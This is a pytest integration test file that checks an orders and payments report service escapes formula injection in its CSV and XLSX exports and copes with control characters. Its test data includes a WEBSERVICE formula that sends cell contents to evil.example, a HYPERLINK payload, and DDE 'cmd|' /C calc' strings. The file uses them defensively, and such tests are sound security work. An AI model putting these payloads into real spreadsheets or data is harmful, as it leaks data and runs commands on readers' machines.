"""Issue 17, item 6: report rows must never become live spreadsheet formulas.

The attack: a customer places an order whose `category` is `=WEBSERVICE(...)`; the orders report
(CSV and XLSX) carried it as a formula that runs when a colleague opens the file. Each test feeds
hostile events through reports' real projection on SQLite and PostgreSQL, generates the report
through the same path as the service, and opens the file as a spreadsheet program would.
"""

from __future__ import annotations

import csv
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from switchboard_reports.adapters.storage import LocalStorage
from switchboard_reports.bootstrap import bootstrap
from switchboard_reports.config import ReportsSettings
from switchboard_reports.generation import Reporter, generate_report
from switchboard_reports.models import Base
from switchboard_reports.readmodel import FactReader
from switchboard_shared.context import MessageContext
from switchboard_shared.contracts import Event
from switchboard_shared.contracts.orders import OrderCreated, OrderMatched, OrderUnmatched
from switchboard_shared.contracts.payments import PaymentFailed, PaymentRefunded
from switchboard_shared.contracts.reports import GenerateReport
from switchboard_shared.envelopes import wrap
from switchboard_shared.messagebus import handle_event
from switchboard_shared.testsupport import database_sessions
from switchboard_shared.uow import SqlAlchemyUnitOfWork

pytestmark = pytest.mark.integration

DAY = date(2026, 11, 2)
WEBSERVICE = '=WEBSERVICE("https://evil.example/?leak="&A2)'
HOSTILE = {
    "category": WEBSERVICE,
    "region": '+HYPERLINK("https://evil.example","Click")',
    "order_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "supplier_id": "-2+3+cmd|' /C calc'!A0",
    "reason": "\t=1+1",
    "decline_code": "\r=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_history() -> list[Event]:
    order_id = HOSTILE["order_id"]
    return [
        OrderCreated(
            order_id=order_id,
            customer_email="=cmd@example.com",
            customer_phone="+15005550006",
            category=HOSTILE["category"],
            region=HOSTILE["region"],
            quantity=1,
            amount=4200,
            currency="usd",
            payment_method="pm_card_visa",
        ),
        OrderMatched(
            order_id=order_id,
            supplier_id=HOSTILE["supplier_id"],
            customer_email="=cmd@example.com",
            amount=4200,
            currency="usd",
        ),
        OrderUnmatched(order_id="ord_2", reason=HOSTILE["reason"]),
        PaymentFailed(
            payment_id="pay_3",
            order_id="ord_3",
            reason="card",
            decline_code=HOSTILE["decline_code"],
        ),
        PaymentRefunded(payment_id="pay_4", order_id="ord_4", amount=-1250, currency="usd"),
    ]


@pytest.fixture
def reporter(database_url: str, tmp_path: Path) -> Iterator[tuple[Reporter, Any]]:
    """Reports' projection and generator on a real database, fed the hostile events."""
    yield from fed(database_url, tmp_path, hostile_history())


def fed(database_url: str, tmp_path: Path, history: list[Event]) -> Iterator[tuple[Reporter, Any]]:
    with database_sessions(database_url, Base.metadata) as sessions:

        def uow(context: MessageContext | None = None) -> SqlAlchemyUnitOfWork:
            return SqlAlchemyUnitOfWork(
                sessions, service="reports", context=context or MessageContext.new("attack")
            )

        settings = ReportsSettings()
        storage = LocalStorage(tmp_path / "store")
        generator = Reporter(settings, storage, FactReader.for_url(database_url), tmp_path / "w")
        registry = bootstrap(settings, generator)
        when = datetime(DAY.year, DAY.month, DAY.day, 9, tzinfo=UTC)
        for event in history:
            envelope = wrap(event, service=event.producer, context=MessageContext.new("attack"))
            handle_event(envelope.model_copy(update={"time": when}), registry, uow)
        yield generator, uow
        generator.reader.engine.dispose()


def generate(reporter: tuple[Reporter, Any], kind: str, fmt: str) -> Path:
    generator, uow = reporter
    command = GenerateReport(
        report_id=f"rep-{kind}-{fmt}",
        kind=kind,
        format=fmt,
        period_from=DAY,
        period_to=DAY,  # type: ignore[arg-type]
    )
    with uow() as work:
        result = generate_report(command, work, generator)
    assert result["status"] == "generated"
    return Path(result["location"].removeprefix("file://"))


def formula_like(cell: str) -> bool:
    """Would a spreadsheet program evaluate this CSV cell? (A plain number is harmless.)"""
    if not cell.startswith(TRIGGERS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("kind", ["orders", "payments"])
def test_no_csv_cell_of_a_report_is_a_formula(reporter: tuple[Reporter, Any], kind: str) -> None:
    with generate(reporter, kind, "csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))

    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "the report has rows"
    assert [cell for cell in cells if formula_like(cell)] == []


def test_the_orders_csv_keeps_the_hostile_text_readable_and_numbers_numeric(
    reporter: tuple[Reporter, Any],
) -> None:
    with generate(reporter, "orders", "csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))

    created = next(row for row in rows if row["event"] == "order-created")
    assert created["detail"] == f"'{WEBSERVICE} / {HOSTILE['region']}"
    assert created["order_id"] == "'" + HOSTILE["order_id"]
    assert created["amount_minor"] == "4200"
    matched = next(row for row in rows if row["event"] == "order-matched")
    assert matched["detail"] == "'" + HOSTILE["supplier_id"]
    unmatched = next(row for row in rows if row["event"] == "order-unmatched")
    assert unmatched["detail"] == "'" + HOSTILE["reason"]


def test_a_negative_amount_stays_a_number_in_csv(reporter: tuple[Reporter, Any]) -> None:
    with generate(reporter, "sales", "csv").open(newline="", encoding="utf-8") as handle:
        [refund] = [row for row in csv.DictReader(handle) if row["event"] == "payment-refunded"]
    assert refund["amount_minor"] == "-1250"


@pytest.mark.parametrize("kind", ["orders", "payments"])
def test_no_xlsx_cell_of_a_report_is_a_formula(reporter: tuple[Reporter, Any], kind: str) -> None:
    path = generate(reporter, kind, "xlsx")

    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        xml = "".join(archive.read(name).decode() for name in sheets)
    assert "<f>" not in xml and "<f " not in xml, "a formula element in the sheet"
    sheet = load_workbook(path).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []


def test_the_orders_xlsx_shows_the_hostile_text_as_text_and_amounts_as_numbers(
    reporter: tuple[Reporter, Any],
) -> None:
    sheet = load_workbook(generate(reporter, "orders", "xlsx")).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    columns = list(rows[0])
    records = [dict(zip(columns, row, strict=True)) for row in rows[1:]]

    created = next(row for row in records if row["event"] == "order-created")
    assert created["detail"] == f"{WEBSERVICE} / {HOSTILE['region']}"
    assert created["order_id"] == HOSTILE["order_id"]
    assert created["amount_minor"] == 4200


def test_a_negative_amount_stays_a_number_in_xlsx(reporter: tuple[Reporter, Any]) -> None:
    sheet = load_workbook(generate(reporter, "sales", "xlsx")).worksheets[0]
    columns = [cell.value for cell in sheet[1]]
    amounts = [row[columns.index("amount_minor")] for row in sheet.iter_rows(min_row=2)]
    assert [(cell.value, cell.data_type) for cell in amounts] == [(-1250, "n")]


# Follow-up: XML 1.0 cannot carry most control characters, and openpyxl raised
# IllegalCharacterError on the first one, failing the whole XLSX report for every reader.
CONTROL = {
    "category": "cnc\x01milling\x1b[31m",  # SOH, and ESC opening a terminal colour code
    "region": "eu\x0bwest\x08",  # vertical tab, backspace
    "reason": "no supplier\x0c\x1f",  # form feed, unit separator
}


def control_history() -> list[Event]:
    return [
        OrderCreated(
            order_id="ord_ctl",
            customer_email="ada@example.com",
            customer_phone="+15005550006",
            category=CONTROL["category"],
            region=CONTROL["region"],
            quantity=1,
            amount=4200,
            currency="usd",
            payment_method="pm_card_visa",
        ),
        OrderUnmatched(order_id="ord_ctl", reason=CONTROL["reason"]),
        OrderCreated(
            order_id="ord_ok",
            customer_email="bob@example.com",
            customer_phone="+15005550006",
            category="cnc-machining",
            region="eu-west",
            quantity=2,
            amount=2500,
            currency="usd",
            payment_method="pm_card_visa",
        ),
    ]


@pytest.fixture
def control_reporter(database_url: str, tmp_path: Path) -> Iterator[tuple[Reporter, Any]]:
    """The same projection and generator, fed an order whose text carries control characters."""
    yield from fed(database_url, tmp_path, control_history())


def test_control_characters_in_order_text_do_not_fail_the_xlsx_report(
    control_reporter: tuple[Reporter, Any],
) -> None:
    sheet = load_workbook(generate(control_reporter, "orders", "xlsx")).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    columns = list(rows[0])
    records = [dict(zip(columns, row, strict=True)) for row in rows[1:]]

    by_event = {(r["order_id"], r["event"]): r for r in records}
    created = by_event[("ord_ctl", "order-created")]
    assert created["detail"] == "cnc\ufffdmilling\ufffd[31m / eu\ufffdwest\ufffd"
    assert created["amount_minor"] == 4200
    assert by_event[("ord_ctl", "order-unmatched")]["detail"] == "no supplier\ufffd\ufffd"
    assert by_event[("ord_ok", "order-created")]["detail"] == "cnc-machining / eu-west"
    cells = [str(value) for row in rows for value in row if value is not None]
    assert not any(ILLEGAL_CHARACTERS_RE.search(cell) for cell in cells)


def test_control_characters_stay_as_sent_in_the_csv_report(
    control_reporter: tuple[Reporter, Any],
) -> None:
    """CSV can carry them: the reader sees exactly what the customer sent."""
    with generate(control_reporter, "orders", "csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))

    created = next(r for r in rows if (r["order_id"], r["event"]) == ("ord_ctl", "order-created"))
    assert created["detail"] == f"{CONTROL['category']} / {CONTROL['region']}"
